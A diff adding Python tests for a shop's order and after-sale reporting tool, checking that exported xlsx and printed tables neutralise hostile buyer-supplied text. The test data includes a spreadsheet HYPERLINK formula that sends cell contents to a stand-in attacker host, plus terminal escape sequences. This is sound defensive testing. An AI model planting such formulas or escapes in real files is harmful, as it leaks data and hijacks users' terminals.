@@ -102,3 +102,123 @@ def test_finances_result_sheet_marks_each_refund_matched_or_what_differs(store, 
     path.write_bytes(sheet)
     assert main(["report", "refunds", "--date", DAY, "--reconcile", str(path)]) == 1
     assert "1 matched, 2 to look at" in capsys.readouterr().out
+
+
+# --- hostile text (issue 17): whatever a buyer typed or a file held, every table is made, and opens as text ------
+
+C0 = "".join(chr(code) for code in range(0x20))
+C0_TEXT = f"={C0}\x7f尾"  # every C0 control and DEL behind a formula's "=", 35 characters: fits every text field
+WIDE_TEXT = "@" + "".join(chr(code) for code in range(0x80, 0xA0)) + "\u202e001\ufffe\uffff_x0041_尾"  # C1 and more
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我退款")'
+HOSTILE_NO = "3912345678901234568"
+
+
+def hostile_day(store, text: str) -> None:
+    """A day on which text is in every field of every table a buyer, an agent or an imported file can fill: the
+    order export's nick, receiver and address, the items, each action's words, the problem order's detail."""
+    import csv
+    import io
+
+    from app.desk.order_import import plan_import, run_import
+
+    sheet = io.StringIO(newline="")
+    csv.writer(sheet).writerows([("订单编号", "买家会员名", "买家支付宝账号", "买家实际支付金额", "收货人姓名", "收货地址", "联系手机",
+                                  "宝贝标题", "订单创建时间"),
+                                 (HOSTILE_NO, text, text, "129.00", text, text, text, text, "2026-11-20 10:11:00")])
+    plan = plan_import(store, sheet.getvalue().encode("utf-8"), "csv", now=NOW)
+    assert not plan.rejected, plan.rejected
+    run_import(store, plan, now=NOW)
+    desk = IssueDesk(store, text[:40], clock=lambda: NOW)
+    after = desk.open_issue(stage="after_sale", category="damage", order_no=HOSTILE_NO, buyer_nick=text)
+    desk.act(after.id, "partial_refund", {"amount": "1", "reason": text})
+    short = text[:40]  # courier, tracking no. and packer take 40 characters
+    desk.act(after.id, "reship", {"items": text, "reason": text, "courier": short, "new_tracking_no": short})
+    desk.act(after.id, "return", {"shipping_paid_by": "shop", "reason": text, "return_tracking_no": short})
+    desk.act(after.id, "complaint", {"problem": "damage", "detail": text, "photos": [text], "packer": short})
+    review = desk.open_issue(stage="bad_review", category="bad_review", order_no=HOSTILE_NO, buyer_nick=text)
+    desk.act(review.id, "contact", {"channel": "phone", "result": text})
+    desk.act(review.id, "review_outcome", {"group": 2, "rating": 1, "review_text": text, "offer": text,
+                                           "changed": False})
+    desk.open_issue(stage="in_sale", category="unclear_address", order_no=HOSTILE_NO, buyer_nick=text, note=text)
+
+
+def read_back(path) -> list[list[object]]:
+    """The sheet's rows as Excel shows them (its _xHHHH_ escapes decoded), after checking no cell is a formula
+    and every formula-like text carries Excel's quote prefix (editing the cell keeps it text)."""
+    import re
+
+    from app.safe_text import formula_like
+
+    rows = []
+    for row in load_workbook(path).active.iter_rows():
+        for cell in row:
+            assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
+            if isinstance(cell.value, str) and formula_like(cell.value):
+                assert cell.quotePrefix, f"{cell.coordinate} {cell.value!r} has no quote prefix"
+        rows.append([re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m[1], 16)), c.value)
+                     if isinstance(c.value, str) else c.value for c in row])
+    return rows
+
+
+@pytest.mark.parametrize("text", [C0_TEXT, WIDE_TEXT], ids=["C0 and DEL", "C1, bidi, non-characters"])
+@pytest.mark.parametrize("kind", ["refunds", "reships", "returns", "complaints", "reviews", "problem-orders"])
+def test_every_table_is_made_whatever_control_characters_it_holds_and_shows_them(store, tmp_path, kind, text):
+    from app.safe_text import visible
+
+    hostile_day(store, text)
+    table = Reports(store).table(kind, DAY)
+    target = tmp_path / f"{kind}.xlsx"
+    write_xlsx(table, target)  # IllegalCharacterError here before: no table for the day at all
+    [header, *rows] = read_back(target)
+    assert tuple(header) == table.headers and len(rows) == len(table.rows) >= 1
+    shown = visible(text)  # ␛ for ESC, \x9b for a C1 control; tab and line feed as they are
+    cells = [c for row in rows for c in row if isinstance(c, str)]
+    assert any(shown in c for c in cells), cells
+    for cell in cells:
+        assert not any(ord(c) < 0x20 and c not in "\t\n" or 0x7F <= ord(c) <= 0x9F for c in cell), cell
+        assert not set(cell) & {"\u202e", "\ufffe", "\uffff"}
+    expected = [[visible(c) if isinstance(c, str) else c for c in row] for row in table.rows]
+    assert [[c if c is not None else "" for c in row] for row in rows] == [
+        [float(c) if isinstance(c, Decimal) else c for c in row] for row in expected]
+
+
+def test_a_buyers_formula_is_text_in_the_table_and_reads_as_typed(store, tmp_path):
+    hostile_day(store, FORMULA)
+    target = tmp_path / "退款.xlsx"
+    write_xlsx(Reports(store).refunds(DAY), target)
+    sheet = load_workbook(target).active
+    nick, real_name, amount = sheet["A2"], sheet["B2"], sheet["D2"]
+    assert (nick.value, nick.data_type, nick.quotePrefix) == (FORMULA, "s", True)  # a live formula before
+    assert real_name.value == FORMULA and real_name.data_type == "s"
+    assert amount.data_type == "n" and amount.value == pytest.approx(1.0)  # money stays a number
+    for kind in ("reships", "returns", "complaints", "reviews", "problem-orders"):
+        write_xlsx(Reports(store).table(kind, DAY), target)
+        read_back(target)
+
+
+def test_lone_surrogates_cannot_reach_a_table_the_store_refuses_them(store):
+    desk = IssueDesk(store, "小李", clock=lambda: NOW)
+    with pytest.raises(UnicodeEncodeError):
+        desk.open_issue(stage="after_sale", category="damage", buyer_nick="半个\ud800字")
+    assert desk.issues() == []
+
+
+def test_the_printed_table_cannot_run_a_formula_where_it_is_pasted_nor_drive_the_terminal(store, capsys):
+    hostile_day(store, f"{FORMULA}\x1b]0;pwned\x07\x1b[2J")
+    assert main(["report", "refunds", "--date", DAY]) == 0
+    header, row = capsys.readouterr().out.splitlines()
+    cells = row.split("\t")
+    assert len(cells) == 7 and cells[0] == f"'{FORMULA}␛]0;pwned␇␛[2J"
+    assert not any(ord(c) < 0x20 and c != "\t" for c in row)
+
+
+def test_reconciling_shows_finances_words_without_letting_them_drive_the_terminal(store, tmp_path, capsys):
+    from tests.conftest import obeyed_by_a_terminal
+
+    day_of_work(store)
+    path = tmp_path / "result.csv"
+    path.write_bytes((f"订单号,金额,支付宝\n{ORDER.no},5.90,xm@example.com\n"
+                      "1999999999999999999\x1b]0;x\x07,8.00,who@example.com\n").encode())
+    main(["report", "refunds", "--date", DAY, "--reconcile", str(path)])
+    out = capsys.readouterr().out
+    assert not obeyed_by_a_terminal(out) and "␛]0;x␇" in out
